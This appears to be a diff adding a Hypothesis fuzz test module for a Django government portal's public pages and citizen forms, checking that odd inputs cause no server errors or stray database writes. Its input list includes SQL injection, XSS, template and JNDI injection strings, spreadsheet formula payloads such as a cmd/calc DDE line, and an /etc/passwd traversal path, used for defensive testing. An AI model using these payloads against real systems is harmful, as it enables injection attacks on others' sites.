@@ -1,0 +1,650 @@
+"""Fuzz test of every public form and query parameter (issue 11).
+
+Hypothesis generates what an attacker or a broken client sends: Chinese, control characters, NUL,
+very long text, SQL-, HTML- and formula-like strings, wrong types, missing fields, big numbers,
+repeated keys, odd content types and forwarded addresses. Whatever arrives, the site answers
+below 500 and touches no data it should not: a refused form saves nothing, an accepted one adds
+only its own row, and nothing else in the database changes (every table is fingerprinted before
+and after each test).
+
+The examples are drawn deterministically (derandomize, no example database), so CI runs the same
+inputs each time. Each test's `max_examples` is in EXAMPLES; the last test checks that the module
+really sent at least 10,000 generated inputs.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import string
+import time
+from collections import Counter
+from urllib.parse import quote, urlencode
+
+import pytest
+from django.core.cache import cache
+from django.db import connection
+from hypothesis import HealthCheck, Phase, given, settings
+from hypothesis import strategies as st
+
+from opinions.models import Opinion
+from participation import abuse
+from participation.models import ConsultationPage, Message
+from portal.demo import load_demo
+from portal.demo.participation import BOARD_SLUG, CLOSED_SLUG, OPEN_SLUG
+from tests.conftest import shared_value
+
+# Generated inputs per test; their sum is the module's total (at least 10,000).
+EXAMPLES = {
+    "test_query_parameters_of_every_listing": 3000,
+    "test_any_query_on_any_public_page": 1200,
+    "test_generated_paths": 800,
+    "test_opinion_form": 2000,
+    "test_opinion_form_with_captcha": 600,
+    "test_closed_consultation_refuses_every_opinion": 300,
+    "test_message_board_form": 1500,
+    "test_lookups_by_tracking_code": 800,
+}
+MINIMUM_INPUTS = 10_000
+SENT: Counter[str] = Counter()
+# Submissions saved, by test: the generated forms must get past the checks often enough to test saving.
+ACCEPTED: Counter[str] = Counter()
+
+# Rows that public requests may add or change: the visitor's session (receipts) and the captcha
+# challenges a form shows and an answer uses up.
+ALWAYS_WRITABLE = frozenset({"django_session", "captcha_captchastore"})
+OPINIONS, MESSAGES = Opinion._meta.db_table, Message._meta.db_table
+
+
+def fuzz_settings(test_name: str):
+    return settings(
+        max_examples=EXAMPLES[test_name],
+        deadline=None,
+        database=None,
+        derandomize=True,
+        # No shrinking: each step is a request, and the failing input is reported as it was sent.
+        phases=(Phase.explicit, Phase.generate),
+        suppress_health_check=list(HealthCheck),
+    )
+
+
+@pytest.fixture
+def demo(db, small_county_records, request):
+    def build():
+        _report, logins = load_demo(small_county_records, progress=lambda message: None)
+        return dict(logins)
+
+    return shared_value(request, "demo", build)
+
+
+@pytest.fixture(autouse=True)
+def generous_limits(settings):
+    """Rate limits would refuse almost every generated submission after the first twenty (429) and
+    leave the forms' own checks untested; they have tests of their own (test_opinions.py,
+    test_message_board.py). One trusted proxy, so the generated X-Forwarded-For is read."""
+    settings.PARTICIPATION_RATE_PER_IP = "1000000/h"
+    settings.PARTICIPATION_RATE_PER_CONTACT = "1000000/h"
+    settings.TRUSTED_PROXY_COUNT = 1
+    cache.clear()
+    yield
+    cache.clear()
+
+
+# --- what gets sent ------------------------------------------------------------------------------
+
+NASTY = [
+    "",
+    " ",
+    "\x00",
+    "a\x00b",
+    "\r\n",
+    "\t\x0b\x0c",
+    "\x1b[31m",
+    "\u202e\u200b\ufeff",
+    "\U00020b9f𠜎𪚥",
+    "平原镇",
+    "傣文ᦔᦱᧈᦐᦲ",
+    "Jinghpaw ga",
+    "'; DROP TABLE opinions_opinion; --",
+    "' OR '1'='1",
+    '" OR 1=1 --',
+    "1; SELECT pg_sleep(10)",
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "{{ 7*7 }}{% debug %}",
+    "${jndi:ldap://example.invalid/a}",
+    '=HYPERLINK("http://example.invalid","x")',
+    "=cmd|' /C calc'!A0",
+    "+SUM(1,2)",
+    "-2+3",
+    "@SUM(1)",
+    "../../../../etc/passwd",
+    "%00",
+    "%2e%2e%2f",
+    "%ZZ",
+    "0",
+    "-1",
+    "00000000001",
+    "1e309",
+    "NaN",
+    "Infinity",
+    "99999999999999999999999999999999",
+    "-99999999999999999999999999999999",
+    "²",
+    "١٢٣",
+    "１２３",
+    "2026",
+    "0x1F",
+    "true",
+    "on",
+    "null",
+    "None",
+    "[]",
+    "{}",
+    '{"a": 1}',
+    "L-AAAA-BBBB",
+    "Y-2345-6789",
+    "13912345678",
+    "+86 (0692) 1234567",
+    "citizen@example.net",
+    "a" * 64 + "@" + ".".join(["b" * 61] * 4) + ".cn",
+]
+
+# Every printable and unprintable code point except lone surrogates, which no UTF-8 request carries.
+any_text = st.text(st.characters(exclude_categories=("Cs",)), max_size=60)
+long_text = st.builds(
+    lambda part, times: part * times, st.text(min_size=1, max_size=8), st.integers(50, 1200)
+)
+numbers = st.integers(min_value=-(10**40), max_value=10**40).map(str)
+value = st.one_of(st.sampled_from(NASTY), any_text, numbers, long_text)
+
+
+def key_values(keys: list[str]) -> st.SearchStrategy[list[tuple[str, str]]]:
+    """Query or form pairs: the surface's own keys and stray ones, repeated or missing."""
+    key = st.one_of(st.sampled_from(keys), any_text, st.sampled_from(NASTY))
+    return st.lists(st.tuples(key, value), max_size=8)
+
+
+def raw_query() -> st.SearchStrategy[str]:
+    """Query strings as sent on the wire, broken percent escapes and all."""
+    pieces = st.sampled_from(["&", "=", "&&", "==", "%", "%zz", "%00", "%ff%fe", "+", ";", "?", "#", "[]"])
+    ascii_ = st.text(st.sampled_from(string.ascii_letters + string.digits + string.punctuation), max_size=20)
+    return st.lists(st.one_of(pieces, ascii_), max_size=10).map("".join)
+
+
+def query_string(keys: list[str]) -> st.SearchStrategy[str]:
+    return st.one_of(key_values(keys).map(lambda pairs: urlencode(pairs)), raw_query())
+
+
+forwarded_for = st.one_of(
+    st.none(),
+    st.sampled_from(
+        ["203.0.113.9", "2001:db8::1", "203.0.113.9, 10.0.0.1", "", " , ", "unknown", "999.1.1.1"]
+    ),
+    any_text,
+)
+
+
+def environ(forwarded: str | None) -> dict:
+    return {} if forwarded is None else {"HTTP_X_FORWARDED_FOR": forwarded}
+
+
+def checked(response, test_name: str):
+    SENT[test_name] += 1
+    assert response.status_code < 500, response.status_code
+    return response
+
+
+# --- what may change ---------------------------------------------------------------------------
+
+
+def highest_ids(tables: tuple[str, ...]) -> dict[str, int]:
+    with connection.cursor() as cursor:
+        highest = {}
+        for table in tables:
+            cursor.execute(f"SELECT coalesce(max(id), 0) FROM {connection.ops.quote_name(table)}")
+            highest[table] = cursor.fetchone()[0]
+        return highest
+
+
+def table_fingerprints(up_to: dict[str, int]) -> dict[str, str]:
+    """A hash of every table's rows; in the tables of `up_to`, of the rows up to that id only."""
+    fingerprints = {}
+    with connection.cursor() as cursor:
+        for table in sorted(connection.introspection.table_names()):
+            if table in ALWAYS_WRITABLE:
+                continue
+            where = f" WHERE id <= {int(up_to[table])}" if table in up_to else ""
+            cursor.execute(f"SELECT * FROM {connection.ops.quote_name(table)}{where}")
+            rows = sorted(repr(row) for row in cursor.fetchall())
+            fingerprints[table] = hashlib.sha256("\n".join(rows).encode()).hexdigest()
+    return fingerprints
+
+
+class TableWatch:
+    """Every table's fingerprint, taken when the test's first example runs (after its own setup).
+    In the tables a test's form writes to, new rows are allowed; the rows already there are not
+    to change."""
+
+    def __init__(self) -> None:
+        self.up_to: dict[str, int] = {}
+        self.before: dict[str, str] | None = None
+
+    def start(self, *new_rows_allowed: str) -> None:
+        if self.before is None:
+            self.up_to = highest_ids(new_rows_allowed)
+            self.before = table_fingerprints(self.up_to)
+
+    def changed(self) -> list[str]:
+        after = table_fingerprints(self.up_to)
+        return sorted(table for table in after if after[table] != self.before.get(table))
+
+
+@pytest.fixture
+def untouched(demo):
+    """Fails the test if any table changed other than by the new rows the test allows."""
+    watch = TableWatch()
+    yield watch
+    if watch.before is not None:
+        assert not watch.changed(), f"public requests changed {watch.changed()}"
+
+
+def counts() -> tuple[int, int]:
+    return Opinion.objects.count(), Message.objects.count()
+
+
+# --- query parameters --------------------------------------------------------------------------
+
+LISTINGS = [
+    # (path, its own query keys)
+    ("/search/", ["q", "unit", "p"]),
+    ("/tdd/search/", ["q", "unit", "p"]),
+    ("/kac/search/", ["q", "unit", "p"]),
+    ("/zwgk/pingyuan/statutory/", ["year", "subject", "genre", "domain", "validity", "p"]),
+    ("/zwgk/scjg/statutory/", ["year", "subject", "genre", "domain", "validity", "p"]),
+    ("/tdd/zwgk/pingyuan/statutory/", ["year", "subject", "genre", "domain", "validity", "p"]),
+    ("/kac/zwgk/scjg/statutory/", ["year", "subject", "genre", "domain", "validity", "p"]),
+    ("/zwgk/xzfb/interpretations/", ["unit", "kind", "p"]),
+    ("/tdd/zwgk/xzfb/interpretations/", ["unit", "kind", "p"]),
+    (f"/zwgk/pingyuan/{OPEN_SLUG}/", ["article", "p"]),
+    (f"/kac/zwgk/pingyuan/{OPEN_SLUG}/", ["article", "p"]),
+    (f"/zwgk/scjg/{CLOSED_SLUG}/", ["article", "p"]),
+    (f"/zwgk/scjg/{CLOSED_SLUG}/outcome/", ["p"]),
+    (f"/zwgk/pingyuan/{BOARD_SLUG}/", ["p"]),
+    (f"/tdd/zwgk/pingyuan/{BOARD_SLUG}/", ["p"]),
+    ("/sitemap.xml", ["p", "section"]),
+]
+
+OTHER_PUBLIC_PAGES = [
+    "/",
+    "/tdd/",
+    "/kac/",
+    "/zwgk/",
+    "/zwgk/pingyuan/",
+    "/zwgk/pingyuan/rss/",
+    "/zwgk/pingyuan/atom/",
+    "/zwgk/pingyuan/statutory/rss/",
+    "/kac/zwgk/scjg/statutory/atom/",
+    "/zwgk/pingyuan/profile/",
+    "/zwgk/pingyuan/catalogue/",
+    "/tdd/zwgk/xzfb/catalogue/",
+    "/zwgk/pingyuan/statutory/cleanup-2026/",
+    "/zwgk/pingyuan/statutory/demo-2026-farmland-subsidy-notice/",
+    "/zwgk/pingyuan/statutory/demo-2026-internal-personnel-matter/",
+    "/zwgk/xzfb/interpretations/openness-plan-2020-questions-and-answers/",
+    f"/zwgk/pingyuan/{OPEN_SLUG}/submitted/",
+    f"/zwgk/pingyuan/{BOARD_SLUG}/written/",
+    f"/zwgk/pingyuan/{BOARD_SLUG}/lookup/",
+    "/opinions/lookup/",
+    "/tdd/opinions/lookup/",
+    "/captcha/refresh/",
+]
+METHODS = ["get", "get", "get", "head", "post", "options", "put", "delete"]
+
+
+@given(
+    surface=st.sampled_from(LISTINGS).flatmap(
+        lambda item: st.tuples(st.just(item[0]), query_string(item[1]))
+    ),
+    forwarded=forwarded_for,
+)
+@fuzz_settings("test_query_parameters_of_every_listing")
+def test_query_parameters_of_every_listing(client, untouched, surface, forwarded):
+    path, query = surface
+    untouched.start()
+    checked(
+        client.get(path, QUERY_STRING=query, **environ(forwarded)), "test_query_parameters_of_every_listing"
+    )
+
+
+@given(
+    path=st.sampled_from(OTHER_PUBLIC_PAGES + [path for path, _keys in LISTINGS]),
+    method=st.sampled_from(METHODS),
+    query=query_string(["p", "q", "id", "unit", "year", "format", "lang"]),
+    body=key_values(["code", "contact", "content", "q"]),
+)
+@fuzz_settings("test_any_query_on_any_public_page")
+def test_any_query_on_any_public_page(client, untouched, path, method, query, body):
+    """Pages without parameters of their own, and every page with any method."""
+    untouched.start()
+    before = counts()
+    send = getattr(client, method)
+    if method in ("get", "head", "options"):
+        response = send(path, QUERY_STRING=query)
+    else:
+        response = send(path + "?" + query, urlencode(body), content_type="application/x-www-form-urlencoded")
+    checked(response, "test_any_query_on_any_public_page")
+    assert counts() == before
+
+
+segment = st.one_of(
+    st.sampled_from(["zwgk", "pingyuan", "scjg", "xzfb", "statutory", "rss", "atom", OPEN_SLUG, BOARD_SLUG]),
+    st.sampled_from(NASTY).map(lambda text: quote(text, safe="")),
+    any_text.map(lambda text: quote(text, safe="")),
+    st.sampled_from(["..", ".", "%2F", "%00", "%E4%B8", "%C0%AE", "~", "@2"]),
+)
+
+
+@given(
+    prefix=st.sampled_from(
+        ["/", "/tdd/", "/kac/", "/zwgk/", "/documents/", "/captcha/image/", "/captcha/audio/"]
+    ),
+    segments=st.lists(segment, max_size=5),
+    document_id=st.one_of(st.none(), st.integers(-5, 10**20)),
+    trailing=st.sampled_from(["/", "", ".wav", "@2/", "/rss/", "?p=2"]),
+)
+@fuzz_settings("test_generated_paths")
+def test_generated_paths(client, untouched, prefix, segments, document_id, trailing):
+    """Slugs, document ids, file names and captcha keys that do not exist, or cannot."""
+    untouched.start()
+    parts = ([str(document_id)] if document_id is not None else []) + segments
+    path = prefix + "/".join(parts) + trailing
+    checked(client.get(path), "test_generated_paths")
+
+
+# --- the citizens' forms -----------------------------------------------------------------------
+
+
+def field(valid: st.SearchStrategy[str]) -> st.SearchStrategy:
+    """A form field as sent: a valid value most of the time, else garbage, repeated, or missing."""
+    return st.one_of(
+        valid,
+        valid,
+        value,
+        st.lists(st.one_of(valid, value), min_size=2, max_size=3),
+        st.just(None),
+    )
+
+
+def started_token() -> st.SearchStrategy[str]:
+    """The signed time the form was shown: usually long enough ago, sometimes too fresh, old or forged."""
+    return st.one_of(
+        st.integers(10, 3600).map(lambda age: abuse.form_token(now=time.time() - age)),
+        st.integers(10, 3600).map(lambda age: abuse.form_token(now=time.time() - age)),
+        st.sampled_from([0, 1, 2 * 24 * 3600, -3600]).map(
+            lambda age: abuse.form_token(now=time.time() - age)
+        ),
+        value,
+        st.just("1700000000:forged-signature"),
+    )
+
+
+contents = st.one_of(
+    st.sampled_from(
+        ["建议开市时间提前到早上5时半。", "路灯坏了，请修理。", "=1+1", "<b>意见</b>", "意见\x00内容"]
+    ),
+    any_text,
+    st.text(min_size=1995, max_size=2005),
+)
+phones = st.one_of(
+    st.sampled_from(["13912345678", "0692-1234567", "+86 139 1234 5678", "（0692）1234567", "12345"]),
+    st.from_regex(r"\A\+?[0-9][0-9\- ()]{5,18}[0-9]\Z"),
+)
+emails = st.one_of(
+    st.sampled_from(
+        ["citizen@example.net", "张三@例子.中国", "a@b", "a" * 64 + "@" + ".".join(["b" * 61] * 4) + ".cn"]
+    ),
+    st.emails(),
+)
+ENCODINGS = ["multipart", "multipart", "urlencoded", "json", "text"]
+
+
+def form_fields(**fields: st.SearchStrategy) -> st.SearchStrategy[dict]:
+    return st.fixed_dictionaries({name: field(strategy) for name, strategy in fields.items()}).map(
+        lambda data: {name: item for name, item in data.items() if item is not None}
+    )
+
+
+def post(client, url: str, data: dict, encoding: str, forwarded: str | None):
+    if encoding == "multipart":
+        return client.post(url, data, **environ(forwarded))
+    if encoding == "urlencoded":
+        return client.post(
+            url,
+            urlencode(data, doseq=True),
+            content_type="application/x-www-form-urlencoded",
+            **environ(forwarded),
+        )
+    if encoding == "json":
+        import json
+
+        return client.post(url, json.dumps(data), content_type="application/json", **environ(forwarded))
+    return client.post(url, str(data), content_type="text/plain; charset=gb18030", **environ(forwarded))
+
+
+def opinion_fields(page) -> st.SearchStrategy[dict]:
+    articles = [str(pk) for pk in page.canonical.articles.values_list("pk", flat=True)]
+    return form_fields(
+        article=st.sampled_from(["", *articles]),
+        content=contents,
+        stance=st.sampled_from(["support", "neutral", "oppose"]),
+        name=st.one_of(st.just("张三"), st.text(max_size=55)),
+        publish_name=st.sampled_from(["on", ""]),
+        phone=phones,
+        email=emails,
+        consent=st.just("on"),
+        website=st.just(""),
+        started=started_token(),
+    )
+
+
+def assert_only_own_row(
+    response, before: tuple[int, int], table_index: int, receipt: str, data: dict, test_name: str
+):
+    """A refused form saves nothing; an accepted one (a redirect to its receipt) saves one row, its own."""
+    after = counts()
+    accepted = response.status_code == 302 and response["Location"].endswith(receipt)
+    expected = list(before)
+    if accepted:
+        expected[table_index] += 1
+    assert list(after) == expected, (response.status_code, before, after)
+    if accepted:
+        model = (Opinion, Message)[table_index]
+        row = model.objects.order_by("-id").first()
+        sent = data["content"] if isinstance(data["content"], str) else data["content"][-1]
+        assert row.content == sent.strip()
+        ACCEPTED[test_name] += 1
+    return accepted
+
+
+def consultation(slug: str, language: str = "zh-hans") -> ConsultationPage:
+    return ConsultationPage.objects.get(slug=slug, locale__language_code=language)
+
+
+@pytest.fixture
+def open_consultation(demo):
+    return consultation(OPEN_SLUG)
+
+
+@given(data=st.data(), encoding=st.sampled_from(ENCODINGS), forwarded=forwarded_for)
+@fuzz_settings("test_opinion_form")
+def test_opinion_form(client, untouched, open_consultation, data, encoding, forwarded):
+    untouched.start(OPINIONS)
+    prefix = data.draw(st.sampled_from(["", "/tdd", "/kac"]))
+    form = data.draw(opinion_fields(open_consultation))
+    before = counts()
+    url = f"{prefix}/zwgk/pingyuan/{OPEN_SLUG}/submit/"
+    response = checked(post(client, url, form, encoding, forwarded), "test_opinion_form")
+    assert_only_own_row(response, before, 0, "/submitted/", form, "test_opinion_form")
+
+
+@given(data=st.data(), captcha=st.sampled_from(["right", "right", "wrong", "missing", "unknown key"]))
+@fuzz_settings("test_opinion_form_with_captcha")
+def test_opinion_form_with_captcha(client, untouched, open_consultation, data, captcha):
+    from captcha.models import CaptchaStore
+
+    if untouched.before is None:
+        ConsultationPage.objects.filter(translation_key=open_consultation.translation_key).update(
+            captcha_required=True
+        )
+    untouched.start(OPINIONS)
+    form = data.draw(opinion_fields(open_consultation))
+    hashkey = CaptchaStore.generate_key()
+    answer = CaptchaStore.objects.get(hashkey=hashkey).response
+    if captcha == "right":
+        form.update(
+            captcha_0=hashkey, captcha_1=data.draw(st.sampled_from([answer, answer.upper(), f" {answer} "]))
+        )
+    elif captcha == "wrong":
+        form.update(captcha_0=hashkey, captcha_1=data.draw(value))
+    elif captcha == "unknown key":
+        form.update(captcha_0=data.draw(value), captcha_1=answer)
+    before = counts()
+    response = checked(
+        client.post(f"/zwgk/pingyuan/{OPEN_SLUG}/submit/", form), "test_opinion_form_with_captcha"
+    )
+    accepted = assert_only_own_row(response, before, 0, "/submitted/", form, "test_opinion_form_with_captcha")
+    if captcha in ("wrong", "missing", "unknown key"):
+        assert not accepted
+
+
+@given(data=st.data(), encoding=st.sampled_from(ENCODINGS))
+@fuzz_settings("test_closed_consultation_refuses_every_opinion")
+def test_closed_consultation_refuses_every_opinion(client, untouched, demo, data, encoding):
+    page = consultation(CLOSED_SLUG)
+    untouched.start()
+    form = data.draw(opinion_fields(page))
+    before = counts()
+    response = checked(
+        post(client, f"/zwgk/scjg/{CLOSED_SLUG}/submit/", form, encoding, None),
+        "test_closed_consultation_refuses_every_opinion",
+    )
+    assert response.status_code in (302, 403)
+    assert counts() == before
+
+
+@given(
+    form=form_fields(
+        subject=st.one_of(st.just("路灯不亮"), st.text(max_size=105)),
+        content=contents,
+        name=st.one_of(st.just("李四"), st.text(max_size=55)),
+        phone=phones,
+        email=emails,
+        consent=st.just("on"),
+        website=st.just(""),
+        started=started_token(),
+    ),
+    prefix=st.sampled_from(["", "/tdd", "/kac"]),
+    encoding=st.sampled_from(ENCODINGS),
+    forwarded=forwarded_for,
+)
+@fuzz_settings("test_message_board_form")
+def test_message_board_form(client, untouched, demo, form, prefix, encoding, forwarded):
+    untouched.start(MESSAGES)
+    before = counts()
+    url = f"{prefix}/zwgk/pingyuan/{BOARD_SLUG}/write/"
+    response = checked(post(client, url, form, encoding, forwarded), "test_message_board_form")
+    assert_only_own_row(response, before, 1, "/written/", form, "test_message_board_form")
+
+
+@given(
+    url=st.sampled_from(
+        [
+            "/opinions/lookup/",
+            "/tdd/opinions/lookup/",
+            f"/zwgk/pingyuan/{BOARD_SLUG}/lookup/",
+            f"/kac/zwgk/pingyuan/{BOARD_SLUG}/lookup/",
+        ]
+    ),
+    form=form_fields(
+        code=st.one_of(
+            st.sampled_from(["Y-2345-6789", "l 2345 6789", "Ｌ－２３４５－６７８９", "L-AAAA-BBBB"]),
+            st.text(max_size=35),
+        ),
+        contact=st.one_of(phones, emails, st.text(max_size=260)),
+    ),
+    encoding=st.sampled_from(ENCODINGS),
+    forwarded=forwarded_for,
+)
+@fuzz_settings("test_lookups_by_tracking_code")
+def test_lookups_by_tracking_code(client, untouched, url, form, encoding, forwarded):
+    untouched.start()
+    before = counts()
+    checked(post(client, url, form, encoding, forwarded), "test_lookups_by_tracking_code")
+    assert counts() == before
+
+
+def test_at_least_ten_thousand_generated_inputs_were_sent(request):
+    """Counted as sent, not as declared: Hypothesis may stop early once it runs out of new inputs."""
+    ran = {item.name for item in request.session.items if item.module is request.node.module}
+    if not set(EXAMPLES) <= ran:
+        pytest.skip("only part of the module was selected")
+    assert sum(EXAMPLES.values()) >= MINIMUM_INPUTS
+    assert sum(SENT.values()) >= MINIMUM_INPUTS, dict(SENT)
+    for test_name in ("test_opinion_form", "test_opinion_form_with_captcha", "test_message_board_form"):
+        assert 0 < ACCEPTED[test_name] < SENT[test_name], (test_name, dict(ACCEPTED))
+
+
+# --- what the fuzzing found: each was a server error -------------------------------------------
+
+LONG_EMAIL = "a" * 64 + "@" + ".".join(["b" * 61] * 4) + ".cn"
+
+
+def test_a_listing_filter_in_other_digits_is_ignored(client, demo):
+    # "²".isdigit() is true, but int("²") fails.
+    for query in ({"year": "²"}, {"subject": "²"}, {"year": "١٢٣", "subject": "１２３"}):
+        assert client.get("/zwgk/pingyuan/statutory/", query).status_code == 200
+
+
+def test_search_with_a_nul_character_answers_the_page(client, demo):
+    response = client.get("/search/", {"q": "平原\x00镇", "unit": "ping\x00yuan"})
+    assert response.status_code == 200
+
+
+def test_a_forwarded_address_that_is_no_address_counts_as_the_connection(client, demo, settings):
+    settings.TRUSTED_PROXY_COUNT = 1
+    for forwarded in ("unknown", "999.1.1.1", "<script>", "203.0.113.9, 平原镇"):
+        response = client.post(
+            "/opinions/lookup/",
+            {"code": "Y-2345-6789", "contact": "13912345678"},
+            HTTP_X_FORWARDED_FOR=forwarded,
+        )
+        assert response.status_code == 404
+
+
+def test_an_email_too_long_to_be_kept_is_refused_in_chinese(client, demo):
+    assert len(LONG_EMAIL) > 254
+    before = counts()
+    board = client.post(
+        f"/zwgk/pingyuan/{BOARD_SLUG}/write/",
+        {
+            "subject": "路灯不亮",
+            "content": "村口路灯坏了。",
+            "email": LONG_EMAIL,
+            "consent": "on",
+            "started": abuse.form_token(now=time.time() - 10),
+        },
+    )
+    opinion = client.post(
+        f"/zwgk/pingyuan/{OPEN_SLUG}/submit/",
+        {
+            "content": "建议开市时间提前。",
+            "stance": "support",
+            "email": LONG_EMAIL,
+            "consent": "on",
+            "started": abuse.form_token(now=time.time() - 10),
+        },
+    )
+    for response in (board, opinion):
+        assert response.status_code == 400
+        assert "电子邮箱不能超过 254 个字符" in response.content.decode()
+    assert counts() == before
